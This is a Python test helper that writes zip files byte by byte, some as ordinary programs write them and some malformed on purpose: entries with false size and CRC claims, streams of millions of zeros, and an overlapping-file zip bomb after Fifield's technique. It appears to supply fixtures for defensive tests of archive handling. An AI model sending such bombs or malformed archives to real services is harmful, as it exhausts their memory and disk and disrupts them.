"""Zip files for tests: as programs write them, and as nobody but an attacker would."""

import io
import itertools
import struct
import zipfile
import zlib
from dataclasses import dataclass

PDF = b"%PDF-1.4\n" + bytes(range(256))


@dataclass
class Member:
    """An entry as somebody may write it by hand; claims default to the truth."""

    name: bytes
    content: bytes = PDF
    packed: bytes | None = None  # as compressed; None: stored
    method: int = 0
    flags: int = 0
    mode: int = 0  # of Unix
    attributes: int = 0  # of DOS
    claims_bytes: int | None = None
    claims_crc: int | None = None
    at: int | None = None  # offset of a local header that is there already


def shared_header(one: Member) -> bytes:
    """Return what the local header of an entry and its line in the list have in common."""
    content = one.content if one.packed is None else one.packed
    crc = zlib.crc32(one.content) if one.claims_crc is None else one.claims_crc
    size = len(one.content) if one.claims_bytes is None else one.claims_bytes
    is_large = size >= 2**32
    return struct.pack(
        "<HHHHHLLLHH",
        *(45, one.flags, one.method, 0, 33, crc, len(content)),
        *(2**32 - 1 if is_large else size, len(one.name), 12 if is_large else 0),
    )


def names_of(one: Member) -> bytes:
    """Return the name of an entry, and its true size where the header has no room for that."""
    is_large = (one.claims_bytes or 0) >= 2**32
    return one.name + (struct.pack("<HHQ", 1, 8, one.claims_bytes) if is_large else b"")


def local_header(one: Member) -> bytes:
    return b"PK\x03\x04" + shared_header(one) + names_of(one)


def zipped(*members: Member, comment: bytes = b"") -> bytes:
    """Write a zip file byte by byte."""
    body, listed = b"", b""
    for one in members:
        at = len(body) if one.at is None else one.at
        if one.at is None:
            body += local_header(one) + (one.content if one.packed is None else one.packed)
        listed += b"PK\x01\x02" + struct.pack("<H", 3 << 8 | 45) + shared_header(one)
        listed += struct.pack("<HHHLL", 0, 0, 0, one.mode << 16 | one.attributes, at) + names_of(
            one
        )
    counts = (0, 0, len(members), len(members), len(listed), len(body), len(comment))
    return body + listed + b"PK\x05\x06" + struct.pack("<HHHHLLH", *counts) + comment


def deflated(content: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


def packed(*contents: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Write a zip file as a program does."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as writer:
        for name, content in contents:
            writer.writestr(name, content)
    return file.getvalue()


def zeros(num_megabytes: int) -> bytes:
    """Return a deflate stream of so many million zeros, made in no time."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    megabyte = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    return megabyte * num_megabytes + deflated(b"")


def quoted_overlap(num_files: int) -> tuple[bytes, list[Member]]:
    """Build a bomb of overlapping files: each holds the headers of all that lie behind it.

    After David Fifield, "A better zip bomb" (2019): a stored block of the deflate stream quotes
    the next file's header, whose own stream follows, so that all files end in one kernel.
    """
    content = bytes(1_000_000)
    kernel = Member(b"", content, deflated(content), 8)
    members = [kernel]
    for number in range(num_files - 1, -1, -1):
        behind = members[0]
        behind.name = f"{number:04}.pdf".encode()
        quoted, stream = local_header(behind), behind.packed
        assert stream is not None
        block = b"\x00" + struct.pack("<HH", len(quoted), 0xFFFF ^ len(quoted))
        members.insert(0, Member(b"", quoted + behind.content, block + quoted + stream, 8))
    members[0].name = b"first.pdf"
    at = 0
    for before, member in itertools.pairwise(members):
        at += len(local_header(before)) + 5
        member.at = at
    return zipped(*members), members
